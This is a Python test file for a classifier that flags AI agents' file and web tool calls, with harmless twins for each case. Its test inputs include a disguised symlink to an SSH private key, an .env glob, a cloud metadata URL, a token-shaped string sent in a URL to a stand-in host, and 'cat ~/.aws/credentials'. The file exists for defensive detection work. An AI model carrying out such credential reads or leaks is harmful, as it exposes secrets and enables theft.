"""The facts of the agents' file and web tools come from shellparse, as a command's do.

Each case has a benign twin: the same tool on a harmless path, host or query.
"""

from __future__ import annotations

import os
from pathlib import Path

from clearance.shellparse.facts import SimpleCommandFacts
from clearance.shellparse.tools import (
    carries_secret,
    file_tool_facts,
    opaque_tool_facts,
    urls_in,
    web_tool_facts,
)


def _tree(tmp_path: Path) -> tuple[Path, Path]:
    home = tmp_path / "home"
    workspace = tmp_path / "ws"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key")
    (workspace / "src").mkdir(parents=True)
    (workspace / "src" / "a.py").write_text("x = 1\n")
    (workspace / "notes.md").write_text("notes\n")
    os.symlink(home / ".ssh" / "id_rsa", workspace / "innocent.txt")
    return home, workspace


def _facts(
    kind: str, targets: list[tuple[str, str, str]], home: Path, workspace: Path
) -> SimpleCommandFacts:
    return file_tool_facts(
        kind, targets, cwd=str(workspace), home=str(home), workspace=str(workspace)
    )


def test_a_read_through_a_link_to_a_key_is_a_secret_read(tmp_path: Path) -> None:
    home, workspace = _tree(tmp_path)
    fact = _facts("read", [("innocent.txt", "read", "path")], home, workspace)
    assert fact.program == "read_file" and fact.argv == ["read_file", "innocent.txt"]
    assert "secret_read" in fact.classes
    assert str(home / ".ssh" / "id_rsa") in {p.resolved for p in fact.paths}
    twin = _facts("read", [("notes.md", "read", "path")], home, workspace)
    assert twin.classes == {"read_only"}
    assert [p.inside_workspace for p in twin.paths] == [True]


def test_a_glob_of_a_file_tool_is_expanded_with_dotfiles_and_globstar(tmp_path: Path) -> None:
    home, workspace = _tree(tmp_path)
    (workspace / ".env").write_text("TOKEN=1\n")
    fact = _facts("read", [("**/.e*", "read", "glob")], home, workspace)
    assert "secret_read" in fact.classes
    twin = _facts("read", [("**/*.py", "read", "glob")], home, workspace)
    assert "secret_read" not in twin.classes
    assert str(workspace / "src" / "a.py") in {p.resolved for p in twin.paths}


def test_writes_and_deletes_are_classed_by_the_access_the_tool_makes(tmp_path: Path) -> None:
    home, workspace = _tree(tmp_path)
    fact = _facts(
        "edit", [("src/a.py", "write", "path"), ("notes.md", "delete", "path")], home, workspace
    )
    assert fact.program == "edit_file" and {"write", "delete"} <= fact.classes
    outside = _facts("write", [(str(home / ".bashrc"), "write", "path")], home, workspace)
    assert [p.inside_workspace for p in outside.paths] == [False]


def test_a_listing_reads_names_only(tmp_path: Path) -> None:
    home, workspace = _tree(tmp_path)
    fact = _facts("list", [(str(workspace), "read", "meta")], home, workspace)
    assert fact.program == "list" and fact.classes == {"read_only"}
    assert all(p.meta for p in fact.paths if p.source == "tool")


def test_web_tools_carry_hosts_and_refuse_to_carry_secrets() -> None:
    text = "see https://example.com/a and http://169.254.169.254/latest"
    fact = web_tool_facts("fetch", text, urls_in(text), words=[text], home="/home/u")
    assert fact.program == "web_fetch"
    assert fact.hosts == ["example.com", "169.254.169.254"]
    assert {"network", "network_read", "read_only"} <= fact.classes
    assert "secret_read" not in fact.classes
    leaking = "https://x.example/?q=" + "ghp_" + "a" * 36
    assert "secret_read" in web_tool_facts("fetch", leaking, [leaking], words=[leaking]).classes
    query = web_tool_facts(
        "search",
        "file:///home/u/.aws/credentials",
        [],
        words=["cat ~/.aws/credentials"],
        home="/home/u",
    )
    assert query.program == "web_search" and "secret_read" in query.classes
    assert not carries_secret("how do I read a file in python", "/home/u")
    assert urls_in("no url here") == []


def test_other_tools_are_one_opaque_part() -> None:
    fact = opaque_tool_facts("TodoWrite")
    assert (fact.program, fact.argv, fact.classes, fact.paths) == (
        "TodoWrite",
        ["TodoWrite"],
        set(),
        [],
    )
